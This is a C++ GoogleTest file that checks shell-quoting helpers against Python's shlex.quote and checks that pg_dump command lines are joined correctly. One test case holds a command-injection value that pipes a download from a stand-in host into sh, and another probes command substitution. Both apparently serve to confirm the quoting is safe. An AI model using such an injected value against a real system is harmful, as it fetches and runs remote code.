#include "core/shell.hpp"

#include <gtest/gtest.h>

#include <string>
#include <utility>
#include <vector>

using talvo::core::shell_line;
using talvo::core::shell_quote;

TEST(ShellQuote, Table) {
  // What Python's shlex.quote gives for the same words.
  const std::pair<std::string, std::string> cases[] = {
      {"shop", "shop"},
      {"127.0.0.1", "127.0.0.1"},
      {"shop_backup_20240131_140509.sql", "shop_backup_20240131_140509.sql"},
      {"a@b%c+d=e:f,g.h/i-j_k", "a@b%c+d=e:f,g.h/i-j_k"},
      {"", "''"},
      {"ad min", "'ad min'"},
      {"shop; curl evil.example|sh #", "'shop; curl evil.example|sh #'"},
      {"$(id)`id`${HOME}", "'$(id)`id`${HOME}'"},
      {"it's", "'it'\"'\"'s'"},
      {"'", "''\"'\"''"},
      {"a\\b", "'a\\b'"},
      {"*?[]~!&<>", "'*?[]~!&<>'"},
      {"-d", "-d"},
      {"Müller", "'Müller'"},
      {"two\nlines", "'two\nlines'"},
  };
  for (const auto& [word, quoted] : cases) EXPECT_EQ(shell_quote(word), quoted) << word;
}

TEST(ShellLine, QuotesEachWordAndJoinsWithSpaces) {
  const std::vector<std::string> plain = {"pg_dump", "-h", "127.0.0.1", "-d", "shop"};
  EXPECT_EQ(shell_line(plain), "pg_dump -h 127.0.0.1 -d shop");
  const std::vector<std::string> odd = {"pg_dump", "-d", "a b", "-f", ""};
  EXPECT_EQ(shell_line(odd), "pg_dump -d 'a b' -f ''");
  EXPECT_EQ(shell_line({}), "");
}
